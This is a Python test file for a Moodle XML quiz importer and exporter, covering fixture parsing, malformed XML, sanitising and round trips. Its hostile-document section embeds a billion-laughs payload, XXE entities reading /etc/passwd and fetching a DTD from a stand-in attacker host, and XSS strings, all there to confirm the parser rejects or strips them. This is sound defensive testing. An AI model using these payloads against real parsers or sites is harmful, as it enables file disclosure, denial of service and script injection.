"""Moodle XML import/export (c2i.assessment.formats.moodle_xml): Moodle's files as an
outside oracle (read from ../shared/fixtures), hostile documents (billion laughs,
XXE), malformed XML, sanitising and round trips. Pure: no database."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from c2i.assessment.formats import moodle_xml
from c2i.assessment.formats.gift import dump_gift, parse_gift
from c2i.assessment.formats.model import FALSE_LABEL, TRUE_LABEL, OptionData, QuestionData, competency_code
from c2i.assessment.formats.moodle_xml import dump_moodle_xml, parse_moodle_xml
from tests.test_formats_gift import questions, without_where

FIXTURES = Path(__file__).resolve().parents[1].parent / "shared" / "fixtures"
MOODLE_XML = FIXTURES / "moodle-xml"


def unsupported(label: str) -> str:
    return f"type de question non pris en charge : {label}"


def where(n: int, qtype: str, line: int) -> str:
    return f'question n° {n} (<question type="{qtype}"> ligne {line})'


# --- Moodle's files -----------------------------------------------------------------

# file → (accepted: (where, kind, name, category)), (rejected: (where, reason))
EXPECTED = {
    "category_with_description.xml": (
        [(where(1, "truefalse", 15), "truefalse", "Alpha Question", "Alpha")],
        [],
    ),
    "nested_categories_with_questions.xml": (
        [
            (where(1, "truefalse", 15), "truefalse", "Iota Question", "Iota"),
            (where(3, "truefalse", 83), "truefalse", "Kappa Question", "Iota/Kappa"),
            (where(4, "truefalse", 123), "truefalse", "Lambda Question", "Iota/Kappa/Lambda"),
            (where(5, "truefalse", 163), "truefalse", "Mu Question", "Iota/Mu"),
        ],
        [(where(2, "essay", 55), unsupported("rédaction (essay)"))],
    ),
    "qtype_multichoice.testquestion.moodle.xml": (
        [(where(1, "multichoice", 12), "multichoice", "Multi-choice-001", "Default for C1")],
        [],
    ),
    "qtype_truefalse.testquestion.moodle.xml": (
        [(where(1, "truefalse", 12), "truefalse", "true-false-001", "Test questions")],
        [],
    ),
    "qtype_shortanswer.testquestion.moodle.xml": (
        [],
        [(where(1, "shortanswer", 12), unsupported("réponse courte (short answer)"))],
    ),
    "qtype_match.testquestion.moodle.xml": (
        [],
        [(where(1, "matching", 12), unsupported("appariement (matching)"))],
    ),
    "error_invalid_grades.xml": (
        [],
        [
            (
                where(1, "multichoice", 4),
                "réponse n° 2 : note « 33 % » invalide ; Moodle n'accepte que 100, 90, 83,33333, 80, 75, 70, "
                "66,66667, 60, 50, 40, 33,33333, 30, 25, 20, 16,66667, 14,28571, 12,5, 11,11111, 10, 5, 0 "
                "(et leurs opposés)",
            )
        ],
    ),
}


def test_every_fixture_is_covered() -> None:
    assert sorted(p.name for p in MOODLE_XML.glob("*.xml")) == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_moodle_fixture_outcome(name: str) -> None:
    result = parse_moodle_xml((MOODLE_XML / name).read_bytes())
    accepted, rejected = EXPECTED[name]
    assert [(q.where, q.kind, q.name, q.category) for q in result.questions] == accepted
    assert [(r.where, r.reason) for r in result.rejected] == rejected


def test_multichoice_details() -> None:
    (q,) = parse_moodle_xml((MOODLE_XML / "qtype_multichoice.testquestion.moodle.xml").read_bytes()).questions
    assert (q.stem, q.stem_format, q.single) == ("Find the capital cities in Europe.", "html", False)
    assert [(o.text, o.fraction) for o in q.options] == [
        ("Tokyo", 0.0),
        ("Spain", 0.0),
        ("London", 50.0),
        ("Barcelona", 0.0),
        ("Paris", 50.0),
    ]
    assert q.correct == {2, 4}
    assert q.general_feedback == "Berlin, Paris and London"


def test_truefalse_details() -> None:
    (q,) = parse_moodle_xml((MOODLE_XML / "qtype_truefalse.testquestion.moodle.xml").read_bytes()).questions
    assert [(o.text, o.fraction, o.feedback) for o in q.options] == [
        (TRUE_LABEL, 100.0, "This is the right answer."),
        (FALSE_LABEL, 0.0, "This is the wrong answer."),
    ]
    assert q.general_feedback == "You should have selected true."
    (alpha,) = parse_moodle_xml((MOODLE_XML / "category_with_description.xml").read_bytes()).questions
    assert alpha.stem == "<p>Testing Alpha Question</p>"


def test_invalid_grades_file_is_refused() -> None:
    result = parse_moodle_xml((MOODLE_XML / "error_invalid_grades.xml").read_bytes())
    assert not result.questions
    assert "« 33 % » invalide" in result.rejected[0].reason


# --- hostile and malformed documents -----------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="truefalse"><name><text>&lol9;</text></name>
<questiontext format="html"><text>&lol9;</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>
</question></quiz>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><name><text>x</text></name>
<questiontext format="html"><text>&xxe;</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>
</question></quiz>
"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<quiz/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.invalid/quiz.dtd">
<quiz/>
"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, XXE_PARAMETER, EXTERNAL_DTD])
def test_dtd_and_entities_refuse_the_whole_file(document: bytes) -> None:
    result = parse_moodle_xml(document)
    assert result.questions == []
    assert len(result.rejected) == 1
    assert result.rejected[0].where == "fichier"
    assert "DTD" in result.rejected[0].reason and "refusé" in result.rejected[0].reason
    assert "lollol" not in result.rejected[0].reason and "root:" not in result.rejected[0].reason


def test_size_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    assert moodle_xml.MAX_BYTES == 20 * 1024 * 1024
    monkeypatch.setattr(moodle_xml, "MAX_BYTES", 1024 * 1024)
    result = parse_moodle_xml(b"<quiz>" + b" " * (1024 * 1024 // 2 * 3) + b"</quiz>")
    assert result.questions == []
    assert [(r.where, r.reason) for r in result.rejected] == [
        ("fichier", "fichier trop volumineux : 1,5 Mo (maximum 1 Mo)")
    ]


def test_element_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    assert moodle_xml.MAX_ELEMENTS == 10_000  # per question: memory stays bounded by one question
    monkeypatch.setattr(moodle_xml, "MAX_ELEMENTS", 20)
    good = mc(answer("100", "a") + answer("0", "b")).encode()
    at_limit = b"<question>" + b"<a/>" * 19 + b"</question>"  # 20 elements with <question> itself
    result = parse_moodle_xml(b"<quiz>\n" + good + b"\n" + at_limit + b"</quiz>")
    assert (len(result.questions), [r.reason for r in result.rejected]) == (
        1,
        ["attribut type manquant sur <question>"],
    )
    result = parse_moodle_xml(b"<quiz>\n" + good + b"\n<question>" + b"<a/>" * 20 + b"</question></quiz>")
    assert result.questions == []
    assert [(r.where, r.reason) for r in result.rejected] == [
        ("fichier", "fichier refusé : l'élément commençant ligne 8 compte plus de 20 éléments XML")
    ]


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (b"<quiz>\n<question type='truefalse'>\n</quiz>", "XML mal formé, ligne 3, colonne 3 : balise fermante"),
        (b"<quiz>\n  <a b='1' b='2'/></quiz>", "XML mal formé, ligne 2, colonne 12 : attribut en double"),
        (b"", "XML mal formé, ligne 1, colonne 1 : document vide ou incomplet"),
        (b"<quiz><text>&nbsp;</text></quiz>", "XML mal formé, ligne 1, colonne 13 : entité non définie"),
        (b"<quiz></quiz><quiz/>", "XML mal formé, ligne 1, colonne 14 : contenu après l'élément racine"),
        (b"\x00\xff garbage", "XML mal formé, ligne 1"),
        (b"<questions><question type='truefalse'/></questions>", "l'élément racine doit être <quiz>"),
    ],
)
def test_malformed_xml_gives_a_french_reason_with_the_line(document: bytes, expected: str) -> None:
    result = parse_moodle_xml(document)
    assert result.questions == []
    assert [r.where for r in result.rejected] == ["fichier"]
    assert result.rejected[0].reason.startswith(expected), result.rejected[0].reason


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_parse_without_crash(data: bytes) -> None:
    result = parse_moodle_xml(b"<quiz>" + data + b"</quiz>")
    assert all(q.kind in ("multichoice", "truefalse") for q in result.questions)
    result = parse_moodle_xml(data)
    assert all(r.reason for r in result.rejected)


# --- hand-written questions ------------------------------------------------------------------


def quiz(*questions: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n' + "\n".join(questions) + "\n</quiz>\n").encode()


def mc(answers: str, single: str = "true", stem: str = "<p>Q ?</p>", extra: str = "") -> str:
    return f"""<question type="multichoice">
  <name><text>N</text></name>
  <questiontext format="html"><text><![CDATA[{stem}]]></text></questiontext>
  <single>{single}</single>{extra}
  {answers}
</question>"""


def answer(fraction: str, text: str, feedback: str = "", fmt: str = "html") -> str:
    return (
        f'<answer fraction="{fraction}" format="{fmt}"><text><![CDATA[{text}]]></text>'
        f"<feedback><text>{feedback}</text></feedback></answer>"
    )


def test_html_is_sanitised() -> None:
    stem = '<p onclick="x()">Q <script>alert(1)</script><img src="javascript:alert(1)" alt="i"></p>'
    result = parse_moodle_xml(
        quiz(mc(answer("100", '<a href="javascript:alert(1)">a</a><style>*{}</style>') + answer("0", "b"), stem=stem))
    )
    (q,) = result.questions
    assert q.stem == '<p>Q <img alt="i"></p>'
    assert "script" not in q.stem and "onclick" not in q.stem and "javascript" not in q.stem
    assert q.options[0].text == '<a rel="noopener noreferrer">a</a>'


def test_plain_and_markdown_stems_are_kept_and_plain_options_escaped() -> None:
    document = quiz(
        """<question type="multichoice"><name><text>N</text></name>
<questiontext format="plain_text"><text>a &lt; b ?</text></questiontext>
<answer fraction="100"><text>x &amp; y</text></answer><answer fraction="0"><text>z</text></answer></question>""",
        """<question type="truefalse"><name><text>M</text></name>
<questiontext format="markdown"><text>*Vrai* ?</text></questiontext>
<answer fraction="0"><text>false</text></answer><answer fraction="100"><text>true</text></answer></question>""",
    )
    plain, markdown = parse_moodle_xml(document).questions
    assert (plain.stem_format, plain.stem, plain.single) == ("plain", "a < b ?", True)
    assert plain.options[0].text == "x &amp; y"
    assert (markdown.stem_format, markdown.stem) == ("markdown", "*Vrai* ?")
    assert markdown.correct == {0}  # answers identified by their text, not their order


@pytest.mark.parametrize(
    ("question", "expected"),
    [
        (mc(answer("100", "a") + answer("0", "b"), single="peut-être"), "valeur de <single> invalide"),
        (mc(answer("50", "a") + answer("0", "b"), single="true"), "choix unique : aucune réponse ne vaut 100 %"),
        (mc(answer("50", "a") + answer("0", "b"), single="false"), "totalisent 50 % au lieu de 100 %"),
        (mc(answer("0", "a") + answer("0", "b"), single="false"), "aucune réponse correcte"),
        (mc(answer("100", "a")), "au moins 2 réponses"),
        (mc(answer("100", "a") + answer("0", "")), "réponse n° 2 vide"),
        (mc(answer("abc", "a") + answer("100", "b")), "réponse n° 1 : note « abc » illisible"),
        (mc(answer("100", "a") + answer("0", "b"), stem="<script>x</script>"), "énoncé vide"),
        (
            '<question type="multichoice"><questiontext format="html"><text>Q</text>'
            '<file name="a.png" path="/" encoding="base64">iVBOR*w0=</file></questiontext>'
            '<answer fraction="100"><text>a</text></answer><answer fraction="0"><text>b</text></answer></question>',
            "fichier intégré « a.png » : contenu base64 illisible",
        ),
        (
            '<question type="truefalse"><questiontext><text>Q</text></questiontext>'
            '<answer fraction="100"><text>true</text></answer></question>',
            "vrai/faux : 2 réponses attendues, 1 trouvée(s)",
        ),
        (
            '<question type="truefalse"><questiontext><text>Q</text></questiontext>'
            '<answer fraction="100"><text>true</text></answer><answer fraction="100"><text>false</text></answer>'
            "</question>",
            "vrai/faux : il faut deux réponses",
        ),
        ('<question type="multianswer"><questiontext><text>{1:MC:=a~b}</text></questiontext></question>', "cloze"),
        ('<question type="numerical"/>', unsupported("numérique (numerical)")),
        ('<question type="description"/>', unsupported("description (texte sans réponse)")),
        ('<question type="ddwtos"/>', unsupported("glisser-déposer sur texte (ddwtos)")),
        ('<question type="qtype_inconnu"/>', unsupported("« qtype_inconnu »")),
        ("<question/>", "attribut type manquant"),
    ],
)
def test_bad_questions_are_rejected_by_position(question: str, expected: str) -> None:
    good = mc(answer("100", "a") + answer("0", "b"))
    result = parse_moodle_xml(quiz(good, question, good))
    assert len(result.questions) == 2
    assert [r.where.split(" (")[0] for r in result.rejected] == ["question n° 2"]
    assert expected in result.rejected[0].reason


def test_categories_tags_idnumber_and_competency() -> None:
    document = quiz(
        '<question type="category"><category><text>$course$/top/C2i1/D2/D2.3</text></category></question>',
        mc(
            answer("100", "a", "bravo") + answer("-50", "b"),
            extra="<idnumber> c2i-42 </idnumber><tags><tag><text>facile</text></tag>"
            "<tag><text>competence:D2.4</text></tag></tags>"
            '<generalfeedback format="html"><text>Voir le cours.</text></generalfeedback>',
        ),
        '<question type="category"><category>$course$/C2i1/D3/D3.1</category></question>',  # old form
        mc(answer("100", "a") + answer("0", "b")),
    )
    first, second = parse_moodle_xml(document).questions
    assert (first.category, first.idnumber, first.tags) == ("C2i1/D2/D2.3", "c2i-42", ["facile", "competence:D2.4"])
    assert first.general_feedback == "Voir le cours."
    assert first.options[0].feedback == "bravo"
    assert competency_code(first) == "D2.4"  # the tag wins over the category
    assert (second.category, competency_code(second)) == ("C2i1/D3/D3.1", "D3.1")


def test_characters_a_page_cannot_carry_are_removed() -> None:
    # XML refuses &#1; itself, but an HTML text in CDATA may spell it
    document = quiz(
        mc(
            answer("100", "a&#1;") + answer("0", "b"),
            extra='<generalfeedback format="html">'
            "<text><![CDATA[voir&#x01; le&#xFFFE; cours]]></text></generalfeedback>",
        )
    )
    (q,) = parse_moodle_xml(document).questions
    assert (q.options[0].text, q.general_feedback) == ("a", "voir le cours")
    assert without_where(parse_moodle_xml(dump_moodle_xml([q])).questions) == without_where([q])


def test_plugin_file_references_without_files_are_kept() -> None:
    stem = '<p>Regardez <img src="@@PLUGINFILE@@/a.png" alt="a"></p>'
    (q,) = parse_moodle_xml(quiz(mc(answer("100", "a") + answer("0", "b"), stem=stem))).questions
    assert q.stem == stem


def test_encodings() -> None:
    latin1 = quiz(mc(answer("100", "é") + answer("0", "è"))).decode().replace("UTF-8", "ISO-8859-1")
    (q,) = parse_moodle_xml(latin1.encode("latin-1")).questions
    assert [o.text for o in q.options] == ["é", "è"]


# --- export and round trips --------------------------------------------------------------


def test_dump_is_moodle_xml() -> None:
    q = QuestionData(
        "multichoice",
        "Nom <&>",
        "<p>a &lt; b</p>",
        "html",
        [OptionData("x", 50.0, "ok"), OptionData("y", 50.0), OptionData("z", -100.0)],
        False,
        category="C2i1/D1",
        tags=["t"],
        idnumber="i",
    )
    data = dump_moodle_xml([q])
    assert data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n  <question type="category">')
    assert b"<text>$course$/top/C2i1/D1</text>" in data
    assert b"<text>Nom &lt;&amp;&gt;</text>" in data
    assert b'<questiontext format="html">\n      <text>&lt;p&gt;a &amp;lt; b&lt;/p&gt;</text>' in data
    assert b'<answer fraction="-100" format="html">' in data
    assert b"<single>false</single>" in data
    with pytest.raises(ValueError, match="totalisent"):
        dump_moodle_xml([dataclasses.replace(q, options=q.options[1:])])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(questions)
def test_round_trip(qs: list[QuestionData]) -> None:
    data = dump_moodle_xml(qs)
    result = parse_moodle_xml(data)
    assert not result.rejected, (data, result.rejected)
    assert without_where(result.questions) == qs


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(questions)
def test_round_trip_across_formats(qs: list[QuestionData]) -> None:
    via_xml = parse_moodle_xml(dump_moodle_xml(parse_gift(dump_gift(qs)).questions))
    assert without_where(via_xml.questions) == qs


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_round_trip_of_moodle_files(name: str) -> None:
    first = parse_moodle_xml((MOODLE_XML / name).read_bytes()).questions
    again = parse_moodle_xml(dump_moodle_xml(first))
    assert not again.rejected
    assert without_where(again.questions) == without_where(first)
    in_gift = parse_gift(dump_gift(first))
    assert without_where(in_gift.questions) == without_where(first)


FILE_NAMES = st.text(st.sampled_from(list("abcé 12-_.%&\"'<>()#?+")), min_size=1, max_size=12).map(
    lambda s: s.strip(" ")
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(questions, st.binary(min_size=1, max_size=64), FILE_NAMES.filter(bool))
def test_round_trip_with_an_image(qs: list[QuestionData], image: bytes, name: str) -> None:
    # the image leaves the stem on import and comes back at its end on export, whatever its name
    with_image = [dataclasses.replace(qs[0], image=image, image_name=name), *qs[1:]]
    data = dump_moodle_xml(with_image)
    result = parse_moodle_xml(data)
    assert not result.rejected, (data, result.rejected)
    assert without_where(result.questions) == with_image
    assert result.questions[0].image_name == name and result.questions[0].not_kept == []
    assert dump_moodle_xml(result.questions) == data
